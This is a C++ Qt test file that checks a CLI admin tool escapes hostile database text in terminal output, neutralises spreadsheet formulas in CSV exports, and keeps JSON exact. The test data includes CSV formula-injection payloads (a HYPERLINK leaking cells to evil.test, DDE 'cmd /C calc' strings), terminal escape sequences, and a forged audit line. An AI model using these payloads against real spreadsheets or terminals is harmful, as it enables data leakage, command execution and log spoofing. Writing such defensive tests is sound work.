// What reaches a terminal or a spreadsheet (issue 15): hostile text stored in the database (a
// reason with a newline, a name with terminal escape sequences, cells a spreadsheet would run as
// formulas) goes out escaped in human-readable output, neutralised in CSV (OWASP's CSV-injection
// guidance) and exact in JSON. The real binary on real databases, both engines.
#include "CliTestSupport.h"
#include "administration/Exporter.h"

#include <QBuffer>

using namespace cc;
using namespace cc::test;
using namespace cc::test::cli;

namespace {

// RFC 4180 fields of one CSV document (quoted fields may hold commas, quotes and line breaks).
QList<QStringList> parseCsv(const QString& text)
{
    QList<QStringList> rows;
    QStringList row;
    QString field;
    bool quoted = false;
    for (qsizetype i = 0; i < text.size(); ++i) {
        const QChar c = text.at(i);
        if (quoted) {
            if (c == u'"' && i + 1 < text.size() && text.at(i + 1) == u'"') {
                field += u'"';
                ++i;
            } else if (c == u'"') {
                quoted = false;
            } else {
                field += c;
            }
        } else if (c == u'"') {
            quoted = true;
        } else if (c == u',') {
            row << field;
            field.clear();
        } else if (c == u'\n') {
            rows << (row << field);
            row.clear();
            field.clear();
        } else {
            field += c;
        }
    }
    return rows;
}

bool controlFree(const QByteArray& bytes)
{
    for (qsizetype i = 0; i < bytes.size(); ++i) {
        const uchar c = uchar(bytes.at(i));
        if ((c < 0x20 && c != '\n') || c == 0x7f)
            return false;
        if (c == 0xc2 && i + 1 < bytes.size() && uchar(bytes.at(i + 1)) >= 0x80
            && uchar(bytes.at(i + 1)) <= 0x9f)
            return false; // a C1 control (U+0080..U+009F) in UTF-8
    }
    return true;
}

const QStringList formulas { QStringLiteral("=HYPERLINK(\"http://evil.test/?\"&A1,\"click\")"),
    QStringLiteral("+1+cmd|' /C calc'!A0"), QStringLiteral("-2+3"),
    QStringLiteral("@SUM(1+1)*cmd|' /C calc'!A0"), QStringLiteral("\t=1+1"), QStringLiteral("\r=1+1") };

} // namespace

class TestCliHostileOutput final : public QObject {
    Q_OBJECT

private:
    TestDatabase m_db;
    qint64 m_student = 0;

    CliRun setLevel(int level, const QString& reason, const QString& operatorEmail = {})
    {
        QStringList arguments = words({ "--user", "s@x.test", "--spec", "PLAYER", "--level" });
        arguments << QString::number(level) << QStringLiteral("--reason") << reason;
        if (!operatorEmail.isEmpty())
            arguments << QStringLiteral("--operator") << operatorEmail;
        return runOn(m_db, QStringLiteral("set-level"), arguments);
    }

private slots:
    void initTestCase()
    {
        CLI_REQUIRE_DB(m_db);
        QVERIFY(m_db.initialise());
        m_student = addUser(m_db, QStringLiteral("s@x.test"));
        QVERIFY(m_student > 0);
        QVERIFY(addUser(m_db, QStringLiteral("=1+1@x.test"), QStringLiteral("admin")) > 0);
        QVERIFY(addProgress(m_db, m_student, QStringLiteral("PLAYER"), 3));
        QVERIFY(addLicense(m_db, m_student, QStringLiteral("PLAYER"), 3));
    }

    // A --reason with a newline cannot forge a line of `audit`: the text output has one line per
    // entry and shows the newline as \n; `audit --json` gives the reason exactly.
    void aReasonWithANewlineStaysOnItsLine()
    {
        const QString forged = QStringLiteral(
            "fix\n99999  2026-01-01T00:00:00Z  admin@demo.local  cli  revert  1 PLAYER  all good");
        const CliRun write = setLevel(4, forged);
        QVERIFY2(write.exitCode == 0, qPrintable(describe(write)));
        const CliRun json = runOn(m_db, QStringLiteral("audit"), words({ "--json" }));
        QVERIFY2(json.exitCode == 0, qPrintable(describe(json)));
        const QJsonArray entries = jsonArray(json);
        QVERIFY(!entries.isEmpty());
        QCOMPARE(entries.last().toObject().value(QStringLiteral("reason")).toString(), forged);
        const CliRun text = runOn(m_db, QStringLiteral("audit"));
        QVERIFY2(text.exitCode == 0, qPrintable(describe(text)));
        const QList<QByteArray> lines = text.out.trimmed().split('\n');
        QCOMPARE(lines.size(), entries.size());
        for (const QByteArray& line : lines)
            QVERIFY2(!line.startsWith("99999"), text.out.constData());
        QVERIFY2(text.out.contains("fix\\n99999"), text.out.constData());
        QVERIFY(controlFree(text.out));
    }

    // A name holding terminal escape sequences (a title change, clear screen, a C1 CSI, a
    // right-to-left override) reaches the terminal as visible text; `user --json` keeps it exact.
    void escapeSequencesReachTheTerminalAsText()
    {
        const QString name = QStringLiteral("Eve\x1b]0;owned\x07\x1b[2J") + QChar(0x9b)
            + QStringLiteral("31m") + QChar(0x202e) + QStringLiteral("gpj.exe");
        QVERIFY(m_db.exec(QStringLiteral("UPDATE users SET name = ? WHERE id = ?"), { name, m_student }));
        const CliRun text = runOn(m_db, QStringLiteral("user"), words({ "s@x.test" }));
        QVERIFY2(text.exitCode == 0, qPrintable(describe(text)));
        QVERIFY2(controlFree(text.out), text.out.toHex().constData());
        QVERIFY2(!text.out.contains("\xe2\x80\xae"), text.out.constData()); // U+202E
        QVERIFY2(
            text.out.contains("Eve\\x1b]0;owned\\x07\\x1b[2J\\x9b31m\\u202egpj.exe"), text.out.constData());
        const CliRun json = runOn(m_db, QStringLiteral("user"), words({ "s@x.test", "--json" }));
        QVERIFY2(json.exitCode == 0, qPrintable(describe(json)));
        QCOMPARE(jsonObject(json)
                     .value(QStringLiteral("user"))
                     .toObject()
                     .value(QStringLiteral("name"))
                     .toString(),
            name);
        // A refusal that repeats a hostile value escapes it too, on one line.
        const CliRun refused = runOn(m_db, QStringLiteral("advance"),
            QStringList { QStringLiteral("--user"), QStringLiteral("gh\x1b[2Jost\nforged: done"),
                QStringLiteral("--spec"), QStringLiteral("PLAYER"), QStringLiteral("--to"),
                QStringLiteral("4") });
        QCOMPARE(refused.exitCode, 4);
        QVERIFY2(controlFree(refused.err) && refused.err.count('\n') == 1, refused.err.constData());
        QVERIFY2(refused.err.contains("gh\\x1b[2Jost\\nforged: done"), refused.err.constData());
    }

    // An offending argument of 130 KB (the kernel caps one argument at 128 KiB) with newlines is quoted as a
    // bounded, escaped prefix.
    void errorsQuoteABoundedPrefix()
    {
        const QString huge = QStringLiteral("x\n").repeated(65000) + QStringLiteral("y");
        CliRun run = runCli(QStringList { huge } + m_db.cliArguments());
        QCOMPARE(run.exitCode, 64);
        QVERIFY2(run.err.size() < 1024 && run.err.count('\n') == 1, run.err.left(300).constData());
        QVERIFY2(run.err.contains("(130001 characters)"), run.err.left(300).constData());
        run = runOn(m_db, QStringLiteral("update-progress"),
            QStringList { QStringLiteral("--user"), QStringLiteral("s@x.test"), QStringLiteral("--spec"),
                QStringLiteral("PLAYER"), QStringLiteral("--xp"), huge });
        QCOMPARE(run.exitCode, 64);
        QVERIFY2(run.err.size() < 1024 && run.err.count('\n') == 1, run.err.left(300).constData());
    }

    // Every cell a spreadsheet would run as a formula goes out as text: a leading ' and quotes.
    // The CLI's --csv and the GUI's Export… (both core's Exporter) give the same bytes.
    void csvCellsNeverRunAsFormulas()
    {
        int level = 5;
        for (const QString& reason : formulas) {
            const CliRun write = setLevel(level, reason, QStringLiteral("=1+1@x.test"));
            QVERIFY2(write.exitCode == 0, qPrintable(describe(write)));
            level = level == 5 ? 2 : 5;
        }
        const CliRun csv = runOn(m_db, QStringLiteral("audit"), words({ "--csv" }));
        QVERIFY2(csv.exitCode == 0, qPrintable(describe(csv)));
        const QList<QStringList> rows = parseCsv(QString::fromUtf8(csv.out));
        QVERIFY(rows.size() >= formulas.size() + 1);
        const QStringList header = rows.first();
        const qsizetype reasonColumn = header.indexOf(QStringLiteral("reason"));
        const qsizetype operatorColumn = header.indexOf(QStringLiteral("operator"));
        QVERIFY(reasonColumn >= 0 && operatorColumn >= 0);
        QStringList reasons;
        for (const QStringList& row : rows.mid(1)) {
            for (const QString& field : row)
                QVERIFY2(
                    field.isEmpty() || !QStringView(u"=+@\t\r").contains(field.front()), qPrintable(field));
            reasons << row.at(reasonColumn);
        }
        for (const QString& reason : formulas)
            QVERIFY2(reasons.contains(u'\'' + reason), qPrintable(reason));
        QVERIFY(csv.out.contains("\"'=HYPERLINK(\"\"http://evil.test/?\"\"&A1,\"\"click\"\")\""));
        QVERIFY(csv.out.contains(",\"'=1+1@x.test\","));
        QVERIFY(csv.out.contains(",\"'-2+3\","));
        // JSON stays exact.
        const QJsonArray json = jsonArray(runOn(m_db, QStringLiteral("audit"), words({ "--json" })));
        QStringList jsonReasons;
        for (const QJsonValue& entry : json)
            jsonReasons << entry.toObject().value(QStringLiteral("reason")).toString();
        for (const QString& reason : formulas)
            QVERIFY(jsonReasons.contains(reason));
        // The GUI's Export… runs the same Exporter: byte for byte what the CLI printed.
        auto session = m_db.open();
        QVERIFY(session);
        QBuffer buffer;
        QVERIFY(buffer.open(QIODevice::WriteOnly));
        QVERIFY(Exporter::audit(*session, {}, buffer, {}).ok());
        QCOMPARE(buffer.data(), csv.out);
    }

    // A stored track id holding COPY's own syntax (a backslash, "\\.", "\\N", a tab, a line break, a
    // carriage return) is read by check and stored (PostgreSQL: COPY both ways, issue 17), then read
    // back exactly.
    void storedViolationsKeepTheirTextExactly()
    {
        const QString track = QStringLiteral("X\\.\tY\\N\nZ\rW\\x");
        const qint64 user = addUser(m_db, QStringLiteral("copy@x.test"));
        QVERIFY(user > 0);
        QVERIFY(m_db.exec(
            QStringLiteral("INSERT INTO specializations (id, is_active) VALUES (?, ?)"), { track, true }));
        QVERIFY(addProgress(m_db, user, track, 2));
        const CliRun check = runOn(m_db, QStringLiteral("check"), words({ "--json", "--limit", "0" }));
        QVERIFY2(check.exitCode <= 2, qPrintable(describe(check)));
        const QJsonArray stored = jsonArray(runOn(m_db, QStringLiteral("violations"), words({ "--json" })));
        QStringList tracks;
        for (const QJsonValue& entry : stored) {
            if (entry.toObject().value(QStringLiteral("user_id")).toInteger() == user)
                tracks << entry.toObject().value(QStringLiteral("specialization")).toString();
        }
        QCOMPARE(tracks, QStringList { track });
    }

    void helpSaysSo()
    {
        const CliRun general = runCli(words({ "--help" }));
        QVERIFY2(general.out.contains("OWASP"), general.out.constData());
        for (const char* command : { "audit", "violations", "runs" }) {
            const CliRun help
                = runCli(QStringList { QString::fromLatin1(command), QStringLiteral("--help") });
            QVERIFY2(help.out.contains("formula") && help.out.contains("OWASP"), help.out.constData());
        }
    }
};

QTEST_GUILESS_MAIN(TestCliHostileOutput)
#include "tst_cli_hostile_output.moc"
